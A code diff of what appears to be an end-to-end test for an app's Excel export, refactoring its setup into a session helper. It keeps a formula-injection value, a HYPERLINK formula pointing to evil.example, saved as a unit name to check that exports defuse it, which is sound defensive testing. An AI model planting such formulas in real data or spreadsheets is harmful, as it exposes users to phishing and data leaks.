@@ -6,8 +6,9 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import ExcelJS from 'exceljs';
 import type { Page } from 'playwright-core';
-import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
-import { type Running, SHOTS, startApp } from './host.ts';
+import { describe, expect, test } from 'vitest';
+import { type Running, SHOTS } from './host.ts';
+import { openSession } from './session.ts';
 import { createUi } from './ui.ts';
 
 const shots = join(SHOTS, 'excel-export');
@@ -15,27 +16,24 @@ const HOSTILE = '=HYPERLINK("http://evil.example/?x","Bấm vào đây")';
 let app: Running;
 let page: Page;
 let folder: string;
-const { shot, shotIfFailed, menu, text } = createUi(() => page, shots);
+const { shot, menu, text } = createUi(() => page, shots);
 
-beforeAll(async () => {
-  app = await startApp(shots);
-  page = app.page;
-  page.setDefaultTimeout(15_000);
-  folder = mkdtempSync(join(tmpdir(), 'tdkt-e2e-xlsx-'));
-  await app.api('demo.load', {});
-  await app.api('org.saveUnit', { code: 'ZZ-1', name: HOSTILE, kind: 'khac' });
-  await page.goto(app.url);
-  await page.getByTestId('dashboard').waitFor();
-});
-
-afterEach(async ({ task }) => {
-  await shotIfFailed(task);
-});
-
-afterAll(async () => {
-  await app?.stop();
-  if (folder) rmSync(folder, { recursive: true, force: true });
-});
+openSession(
+  {
+    shots,
+    async prepare(a) {
+      folder = mkdtempSync(join(tmpdir(), 'tdkt-e2e-xlsx-'));
+      await a.api('org.saveUnit', { code: 'ZZ-1', name: HOSTILE, kind: 'khac' });
+    },
+    cleanup: () => {
+      if (folder) rmSync(folder, { recursive: true, force: true });
+    },
+  },
+  (a) => {
+    app = a;
+    page = a.page;
+  },
+);
 
 /** Clicks the "Xuất Excel" button `testId` and reads the downloaded workbook's first sheet. */
 async function exportUnits(testId = 'export-excel'): Promise<{ name: string; sheet: ExcelJS.Worksheet }> {
